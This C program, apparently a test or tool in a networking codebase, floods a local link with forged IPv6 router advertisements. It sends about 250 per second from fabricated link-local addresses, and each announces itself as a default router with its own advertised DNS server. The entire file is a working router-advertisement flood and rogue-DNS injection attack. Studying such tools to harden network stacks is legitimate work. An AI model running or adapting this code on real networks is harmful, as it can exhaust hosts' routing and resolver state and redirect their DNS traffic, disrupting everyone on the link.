/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Somebody on the link who floods it: advertise IFNAME ROUTERS. Router advertisements to all nodes,
 * in turn from so many made up link-local addresses, each one a default router with a name server
 * of its own, and each time with another one; 250 a second, until it is killed.
 */
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define LEN_ADVERT (16 + 24)
#define NS_PAUSE 4000000

/* One's complement sum over what IPv6 sums up (RFC 8200 8.1); both addresses stand together. */
static uint16_t checksum(const uint8_t *addresses, const uint8_t *message)
{
	uint32_t sum = LEN_ADVERT + 58;

	for (int i = 0; i < 32; i += 2)
		sum += (uint32_t)(addresses[i] << 8 | addresses[i + 1]);
	for (int i = 0; i < LEN_ADVERT; i += 2)
		sum += (uint32_t)(message[i] << 8 | message[i + 1]);
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static void make(uint32_t router, uint32_t turn, uint8_t packet[static 40 + LEN_ADVERT])
{
	static const uint8_t head[8] = { 0x60, 0, 0, 0, 0, LEN_ADVERT, 58, 255 };
	static const uint8_t all_nodes[16] = { 0xff, 2, [15] = 1 };
	/* RFC 4861 4.2: hop limit 64, no flags, 1800 s */
	static const uint8_t advert[16] = { 134, 0, 0, 0, 64, 0, 0x07, 0x08 };
	static const uint8_t rdnss[8] = { 25, 3, 0, 0, 0, 0, 0x0e, 0x10 };
	uint8_t *source = packet + 8, *message = packet + 40;
	uint16_t sum;

	memset(packet, 0, 40 + LEN_ADVERT);
	memcpy(packet, head, sizeof(head));
	memcpy(source, (const uint8_t[]){ 0xfe, 0x80 }, 2);
	memcpy(source + 12, (const uint32_t[]){ htonl(0xbad0000 + router) }, 4);
	memcpy(packet + 24, all_nodes, sizeof(all_nodes));
	memcpy(message, advert, sizeof(advert));
	memcpy(message + 16, rdnss, sizeof(rdnss));
	memcpy(message + 24, (const uint8_t[]){ 0xfd, 0, 0, 0xba }, 4);
	memcpy(message + 36, (const uint32_t[]){ htonl(turn) }, 4);
	sum = htons(checksum(source, message));
	memcpy(message + 2, &sum, 2);
}

int main(int argc, char **argv)
{
	const struct timespec pause = { .tv_nsec = NS_PAUSE };
	struct sockaddr_ll to = { .sll_family = AF_PACKET,
				  .sll_protocol = htons(ETH_P_IPV6),
				  .sll_halen = 6,
				  .sll_addr = { 0x33, 0x33, 0, 0, 0, 1 } };
	int fd = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IPV6));
	uint32_t n_routers = argc == 3 ? (uint32_t)atoi(argv[2]) : 0;

	if (!n_routers || fd < 0) {
		fprintf(stderr, "usage: advertise IFNAME ROUTERS\n");
		return 2;
	}
	to.sll_ifindex = (int)if_nametoindex(argv[1]);
	for (uint32_t i = 0;; i++) {
		uint8_t packet[40 + LEN_ADVERT];

		make(i % n_routers, i / n_routers + 1, packet);
		if (sendto(fd, packet, sizeof(packet), 0, (struct sockaddr *)&to, sizeof(to)) < 0)
			perror("advertise");
		nanosleep(&pause, NULL);
	}
}
